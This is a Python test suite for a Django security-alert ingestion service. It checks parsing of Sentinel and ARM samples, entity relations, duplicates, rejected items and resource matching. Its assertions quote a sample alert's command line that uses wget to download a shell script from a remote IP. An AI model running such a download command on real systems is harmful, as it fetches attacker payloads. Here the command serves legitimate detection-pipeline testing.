"""Storing ingested items: alerts, entities, relations, duplicates, rejections, resources."""

import json
import uuid
from datetime import timedelta
from unittest import mock

from django.utils import timezone

from alerts.models import (
    Alert,
    AlertEntity,
    AlertPayload,
    Entity,
    EntityIdentifier,
    ProviderIncident,
    RejectedItem,
    Relation,
    Severity,
)
from inventory.models import Activity, Resource, ResourceHostName
from tests.alerts.helpers import (
    ARM_EXAMPLE,
    EVENTS,
    JSON,
    NDJSON,
    SENTINEL,
    VM1,
    arm_example,
    ingest,
    native,
    sentinel_entities,
    sentinel_rows,
)
from tests.conftest import make_token

DOWNLOAD_KEY = "2518520133657099999_384e00d0-4afc-4e9a-8935-bec64d3951a4"  # row 20
INCIDENT_KEY = "2518522745615999999_30ac5794-a265-4420-a1b7-6335ac08e2c0"  # row 23
WIN1_KEY = "2518520402897969999_b946cd89-667e-4ce7-b571-9603859a7234"  # row 24
ARM_KEYS = ["2518298467986649999_4d25bfef-2d77-4a08-adc0-3e35715cc92a",
            "2518765996949954086_2325cf9e-42a2-4f72-ae7f-9b863cba2d22"]


def counts():
    return {model.__name__: model.objects.count() for model in (
        Alert, AlertPayload, AlertEntity, Entity, EntityIdentifier, Relation, ProviderIncident,
        RejectedItem, Resource, ResourceHostName)}


def edges(alert):
    return {(r.source.position, r.target.position if r.target_id else None, r.type, r.prop)
            for r in Relation.objects.filter(alert=alert).select_related("source", "target")}


# -- the real samples --------------------------------------------------------------------------

def test_it_ingests_the_sentinel_sample(p):
    rows = sentinel_rows()
    report = ingest(p.sub, SENTINEL.read_bytes(), NDJSON)

    assert (report.accepted, report.duplicates, report.rejected) == (25, 0, 0)
    assert [r.type for r in report.results] == ["alert"] * 23 + ["incident", "alert"]
    assert all(r.warnings == [] for r in report.results)
    assert Alert.objects.filter(subscription=p.sub).count() == 24
    assert set(Alert.objects.values_list("key", flat=True)) == \
        {row["SystemAlertId"] for i, row in enumerate(rows) if i != 23}
    assert set(Alert.objects.values_list("format", flat=True)) == {"sentinel"}

    incident = ProviderIncident.objects.get(subscription=p.sub)
    assert report.results[23].id == incident.pk
    assert incident.key == INCIDENT_KEY
    assert incident.provider == "Detection"
    assert incident.alert_keys == [
        "2518522745615999999_c57a0525-9ca0-4caa-aee8-fd1bb33f785b",
        "2518520981440769999_caab1270-55d3-4447-8618-16cf8672e4e1",
        "2518520973978269999_57b6af71-984e-45f3-9aac-d6bbd79eed07"]
    assert not Alert.objects.filter(key=INCIDENT_KEY).exists()

    # Every alert's mentions are its entities as sent, in order.
    for i, row in enumerate(rows):
        if i == 23:
            continue
        alert = Alert.objects.get(key=row["SystemAlertId"])
        assert [m.props for m in alert.mentions.order_by("position")] == sentinel_entities(row)

    # One host MSTICAlertsLxVM2 across the 23 alerts that name it (by name or NetBiosName).
    lx = {m.entity_id for m in AlertEntity.objects.filter(kind="host",
                                                          label__iexact="msticalertslxvm2")}
    assert len(lx) == 1
    assert AlertEntity.objects.filter(entity_id__in=lx).count() == 23
    assert Entity.objects.filter(subscription=p.sub, kind="host").count() == 2
    assert sorted(Entity.objects.filter(kind="ip").values_list("label", flat=True)) == \
        ["104.211.30.1", "203.0.113.1", "23.97.60.214"]

    download = Alert.objects.get(key=DOWNLOAD_KEY)
    mentions = list(download.mentions.order_by("position").select_related("entity"))
    assert [(m.kind, m.label) for m in mentions] == [
        ("host", "MSTICALERTSLXVM2"), ("process", "process 0x4e4f"), ("account", "dbadmin"),
        ("file", "wget"), ("process", "wget http://13.67.35.176/QuZYpObins.sh -t 3 -T 5"),
        ("host-logon-session", "0x2e8cf")]
    assert mentions[0].entity_id in lx
    assert all(m.entity.subscription_id == p.sub.pk for m in mentions)
    assert edges(download) == {
        (1, 0, "runs_on", "Host"), (2, 0, "refers_to", "Host"), (4, 3, "image", "ImageFile"),
        (4, 2, "runs_as", "Account"), (4, 1, "parent", "ParentProcess"),
        (4, 0, "runs_on", "Host"), (5, 0, "session_host", "Host"),
        (5, 2, "session_account", "Account")}
    wget = mentions[4].entity
    assert set(wget.identifiers.filter(strong=True).values_list("value", flat=True)) == {
        "process|pid-time-host|20053|2019-02-16T03:23:54Z|msticalertslxvm2",
        "process|cmd-time-host|wget http://13.67.35.176/QuZYpObins.sh -t 3 -T 5"
        "|2019-02-16T03:23:54Z|msticalertslxvm2"}

    win1 = Alert.objects.get(key=WIN1_KEY)
    assert win1.severity == Severity.MEDIUM
    assert edges(win1) == {(1, 0, "refers_to", "Host")}
    assert win1.resource.external_id == rows[24]["ResourceId"].lower()


def test_it_ingests_the_arm_example_file_as_is(p):
    report = ingest(p.sub, ARM_EXAMPLE.read_bytes(), JSON)

    assert (report.accepted, report.duplicates, report.rejected) == (2, 0, 0)
    assert [[w["code"] for w in r.warnings] for r in report.results] == \
        [["incident_without_alerts"], ["incident_without_alerts"]]
    first, second = (Alert.objects.get(pk=r.id) for r in report.results)
    # Keyed by the ARM name, not by the shared systemAlertId nor the id's last segment.
    assert [first.key, second.key] == ARM_KEYS
    assert (first.format, second.format) == ("arm", "arm")
    assert (first.severity, second.severity) == (Severity.HIGH, Severity.MEDIUM)
    assert [w["code"] for w in first.warnings] == ["incident_without_alerts"]
    assert not ProviderIncident.objects.exists()

    values = arm_example()["responses"]["200"]["body"]["value"]
    assert [m.props for m in first.mentions.order_by("position")] == \
        values[0]["properties"]["entities"]
    assert [(m.kind, m.label) for m in second.mentions.order_by("position")] == [
        ("host", "vm2"), ("account", "vm2\\contosoUser"), ("file", "cmd.exe"),
        ("process", "process 0x3c44"), ("file", "scrsave.scr"),
        ("process", "c:\\users\\contosoUser\\scrsave.scr")]
    assert Relation.objects.filter(alert__in=[first, second]).count() == 0
    ip = first.mentions.get().entity
    assert (ip.kind, ip.label) == ("ip", "192.0.2.1")
    assert first.resource == second.resource
    assert first.resource.external_id == values[0]["properties"]["resourceIdentifiers"][0][
        "azureResourceId"].lower()


def test_it_rejects_every_windows_event_of_the_events_sample_as_not_an_alert(p):
    report = ingest(p.sub, EVENTS.read_bytes(), NDJSON)

    assert (report.accepted, report.rejected) == (0, 286)
    assert {r.error["code"] for r in report.results} == {"not_an_alert"}
    assert Alert.objects.count() == 0
    assert RejectedItem.objects.filter(subscription=p.sub, code="not_an_alert").count() == 286


# -- duplicates ---------------------------------------------------------------------------------

def test_it_counts_the_same_file_twice_as_duplicates(p):
    first = ingest(p.sub, SENTINEL.read_bytes(), NDJSON)
    before = counts()
    seen = {a.pk: (a.first_seen, a.last_seen) for a in Alert.objects.all()}
    later = timezone.now() + timedelta(hours=1)

    with mock.patch("django.utils.timezone.now", return_value=later):
        again = ingest(p.sub, SENTINEL.read_bytes(), NDJSON)

    assert (again.accepted, again.duplicates, again.rejected) == (0, 25, 0)
    assert [(r.id, r.type) for r in again.results] == [(r.id, r.type) for r in first.results]
    assert counts() == before
    for alert in Alert.objects.all():
        assert alert.occurrence_count == 2
        assert alert.first_seen == seen[alert.pk][0]
        assert alert.last_seen == later > seen[alert.pk][1]
    incident = ProviderIncident.objects.get()
    assert (incident.occurrence_count, incident.last_seen) == (2, later)


def test_it_counts_the_same_key_twice_in_one_batch_as_one_alert(p):
    report = ingest(p.sub, [native("twice", display_name="First delivery"),
                            native("twice", display_name="Second delivery")])

    assert [r.status for r in report.results] == ["created", "duplicate"]
    assert report.results[0].id is not None
    assert report.results[0].id == report.results[1].id
    alert = Alert.objects.get(subscription=p.sub)
    assert alert.pk == report.results[0].id
    assert (alert.key, alert.occurrence_count, alert.display_name) == \
        ("twice", 2, "First delivery")
    assert AlertPayload.objects.count() == 1


# -- entities and relations ---------------------------------------------------------------------

def test_it_stores_relations_to_the_right_kind_when_an_id_is_reused(p):
    report = ingest(p.sub, native("reused-id", [
        {"$id": "2", "Type": "host", "HostName": "web1", "DnsDomain": "corp.example"},
        {"$id": "2", "Type": "account", "Name": "alice", "NTDomain": "CORP"},
        {"$id": "3", "Type": "process", "ProcessId": "12", "CommandLine": "run.exe",
         "CreationTimeUtc": "2026-11-27T10:00:00Z",
         "Host": {"$ref": "2"}, "Account": {"$ref": "2"}},
    ]))

    alert = Alert.objects.get(pk=report.results[0].id)
    relations = {r.type: r for r in Relation.objects.filter(alert=alert)
                 .select_related("source", "target", "target__entity")}
    assert set(relations) == {"runs_on", "runs_as"}
    assert (relations["runs_on"].target.position, relations["runs_on"].target.entity.kind,
            relations["runs_on"].prop) == (0, "host", "Host")
    assert (relations["runs_as"].target.position, relations["runs_as"].target.entity.kind,
            relations["runs_as"].prop) == (1, "account", "Account")
    assert {r.source.position for r in relations.values()} == {2}
    assert {r.target_ref for r in relations.values()} == {"2"}
    assert [w["code"] for w in report.results[0].warnings] == ["duplicate_id"]


# -- raw bytes ----------------------------------------------------------------------------------

def test_it_stores_the_raw_bytes_as_sent(p):
    first = ('{ "id":"raw-1" ,\n\t"display_name" : "Caf\u00e9 \\u00e9 \U0001F525 \u65e5\u672c",'
             '   "severity":"High",  "entities":[ ] }').encode()
    second = b'{"id": "raw-2", "display_name": "Second \\"quoted\\"", "severity": "low"}'
    body = b"\xef\xbb\xbf [\r\n  " + first + b"  ,\r\n\t" + second + b"\n]\n"

    report = ingest(p.sub, body)

    stored = {a.key: bytes(a.payload.body) for a in Alert.objects.select_related("payload")}
    assert stored == {"raw-1": first, "raw-2": second}
    alert = Alert.objects.get(key="raw-1")
    assert alert.display_name == "Caf\u00e9 \u00e9 \U0001F525 \u65e5\u672c"
    assert report.accepted == 2


def test_it_keeps_a_nul_byte_in_the_raw_bytes_but_not_in_the_display_name(p):
    body = b'{"id": "nul-1", "display_name": "Bad\\u0000name", "severity": "medium"}'

    report = ingest(p.sub, body)

    alert = Alert.objects.get(pk=report.results[0].id)
    assert alert.display_name == "Badname"
    assert bytes(alert.payload.body) == body
    assert b"\\u0000" in bytes(alert.payload.body)
    assert "nul_byte" in [w["code"] for w in report.results[0].warnings]


# -- rejected items -----------------------------------------------------------------------------

def test_it_keeps_rejected_items_with_their_reason_bytes_and_token(p):
    token = make_token(p.sub)
    bad_severity = b'{"id": "r-2", "display_name": "Bad",  "severity": "critical"}'
    body = (b'[{"id": "r-1", "display_name": "Good", "severity": "high"},\n '
            + bad_severity + b", 42 ]")

    report = ingest(p.sub, body, token=token.token)

    assert [r.status for r in report.results] == ["created", "rejected", "rejected"]
    assert Alert.objects.filter(subscription=p.sub).count() == 1
    rejected = list(RejectedItem.objects.filter(subscription=p.sub).order_by("index"))
    assert [(r.index, r.code, r.field) for r in rejected] == [
        (1, "unknown_severity", "severity"), (2, "wrong_type", "")]
    assert [bytes(r.body) for r in rejected] == [bad_severity, b"42"]
    assert all(r.token_id == token.token.pk and r.source == "api" for r in rejected)
    assert "critical" in rejected[0].message
    assert rejected[1].message
    assert report.results[1].error["code"] == "unknown_severity"


# -- resources ----------------------------------------------------------------------------------

def test_it_finds_the_resource_by_its_id_case_insensitively(p):
    first = ingest(p.sub, native("res-1", resource_id=VM1, compromised_entity="")).results[0]
    second = ingest(p.sub, native("res-2", resource_id=VM1.upper(),
                                  compromised_entity="")).results[0]

    a, b = Alert.objects.get(pk=first.id), Alert.objects.get(pk=second.id)
    assert a.resource_id == b.resource_id is not None
    assert Resource.objects.filter(subscription=p.sub).count() == 1
    assert a.resource.external_id == VM1.lower()
    assert a.resource.kind == Resource.Kind.VIRTUAL_MACHINE
    assert a.resource.name.lower() == "vm1"
    assert (a.resource_ref, b.resource_ref) == (VM1, VM1.upper())


def test_it_finds_the_resource_by_a_host_azure_id(p):
    ingest(p.sub, native("az-1", resource_id=VM1))
    report = ingest(p.sub, native("az-2", [
        {"$id": "1", "Type": "host", "HostName": "some-other-name", "AzureID": VM1.lower()}]))

    alert = Alert.objects.get(pk=report.results[0].id)
    assert alert.resource == Alert.objects.get(key="az-1").resource
    assert Resource.objects.filter(subscription=p.sub).count() == 1


def test_it_finds_the_resource_by_a_host_name_matching_its_name(p):
    resource = Resource.objects.create(subscription=p.sub, name="web-01",
                                       kind=Resource.Kind.VIRTUAL_MACHINE)

    report = ingest(p.sub, [
        native("hn-1", [{"$id": "1", "Type": "host", "HostName": "WEB-01"}],
               compromised_entity=""),
        native("hn-2", compromised_entity="Web-01"),
    ])

    assert [Alert.objects.get(pk=r.id).resource_id for r in report.results] == \
        [resource.pk, resource.pk]
    assert Resource.objects.filter(subscription=p.sub).count() == 1


def test_it_matches_a_host_name_to_a_mixed_case_resource_name(p):
    resource = Resource.objects.create(subscription=p.sub, name="Web-01",
                                       kind=Resource.Kind.VIRTUAL_MACHINE)

    report = ingest(p.sub, [
        native("hn-1", [{"$id": "1", "Type": "host", "HostName": "web-01"}],
               compromised_entity=""),
        native("hn-2", compromised_entity="WEB-01"),
    ])

    assert [Alert.objects.get(pk=r.id).resource_id for r in report.results] == \
        [resource.pk, resource.pk]
    assert Resource.objects.filter(subscription=p.sub).count() == 1


def test_it_finds_the_resource_by_a_host_name_learned_from_an_earlier_alert(p):
    ingest(p.sub, native("learn-1", [{"$id": "1", "Type": "host", "HostName": "Host-A"}],
                         resource_id=VM1))
    resource = Resource.objects.get(subscription=p.sub)
    assert resource.external_id == VM1.lower()
    assert ResourceHostName.objects.filter(resource=resource, name="host-a").exists()

    report = ingest(p.sub, native("learn-2", [{"$id": "1", "Type": "host",
                                               "HostName": "HOST-A"}]))

    assert Alert.objects.get(pk=report.results[0].id).resource == resource
    assert Resource.objects.filter(subscription=p.sub).count() == 1


def test_it_creates_the_resource_with_the_kind_of_its_id(p):
    ids = {
        "sql": "/subscriptions/S1/resourceGroups/RG/providers/Microsoft.Sql/servers/Sql1"
               "/databases/Db1",
        "storage": "/subscriptions/S1/resourceGroups/RG/providers/Microsoft.Storage"
                   "/storageAccounts/Store1",
        "site": "/subscriptions/S1/resourceGroups/RG/providers/Microsoft.Web/sites/Site1",
        "vm": VM1,
    }
    ingest(p.sub, [native(k, resource_id=v, compromised_entity="") for k, v in ids.items()])

    found = {a.key: (a.resource.kind, a.resource.external_id, a.resource.name.lower())
             for a in Alert.objects.select_related("resource")}
    assert found == {
        "sql": (Resource.Kind.SQL_DATABASE, ids["sql"].lower(), "db1"),
        "storage": (Resource.Kind.STORAGE_ACCOUNT, ids["storage"].lower(), "store1"),
        "site": (Resource.Kind.APP_SERVICE, ids["site"].lower(), "site1"),
        "vm": (Resource.Kind.VIRTUAL_MACHINE, VM1.lower(), "vm1"),
    }


def test_it_keeps_a_resource_id_of_another_cloud_subscription_as_is(p):
    elsewhere = ("/subscriptions/11111111-2222-3333-4444-555555555555/resourceGroups/Far"
                 "/providers/Microsoft.Compute/virtualMachines/FarVm")
    report = ingest(p.sub, native("far", resource_id=elsewhere,
                                  workspace_subscription_id="99999999-8888-7777-6666-"
                                                            "555555555555"))

    alert = Alert.objects.get(pk=report.results[0].id)
    assert alert.subscription == p.sub
    assert alert.resource_ref == elsewhere
    assert alert.resource.external_id == elsewhere.lower()
    assert alert.resource.subscription == p.sub


def test_it_takes_the_subscription_from_the_caller_never_the_payload(p):
    p.other.external_id = uuid.UUID("40dcc8bf-0478-4f3b-b275-ed0a94f2c013")
    p.other.save()
    row = sentinel_rows()[24]
    assert row["WorkspaceSubscriptionId"] == str(p.other.external_id)

    report = ingest(p.sub, json.dumps(row).encode(), NDJSON)

    alert = Alert.objects.get(pk=report.results[0].id)
    assert alert.subscription == p.sub
    assert alert.resource.subscription == p.sub
    assert not Alert.objects.filter(subscription=p.other).exists()
    assert not Entity.objects.filter(subscription=p.other).exists()
    assert set(Entity.objects.values_list("subscription_id", flat=True)) == {p.sub.pk}


# -- activity -----------------------------------------------------------------------------------

def test_it_writes_an_activity_row_with_the_counts(p):
    ingest(p.sub, native("act-1"))
    before = Activity.objects.filter(verb="alerts.ingest").count()

    ingest(p.sub, [native("act-1"), native("act-2"), native("act-3"), {"id": "bad"}],
           source="command")

    rows = Activity.objects.filter(verb="alerts.ingest")
    assert rows.count() == before + 1
    row = rows.order_by("-id").first()
    assert row.after == {"accepted": 2, "duplicates": 1, "rejected": 1, "source": "command"}
    assert (row.subscription_id, row.target_type, row.target_id) == \
        (p.sub.pk, "subscription", str(p.sub.pk))
    assert row.actor_kind == Activity.ActorKind.SYSTEM
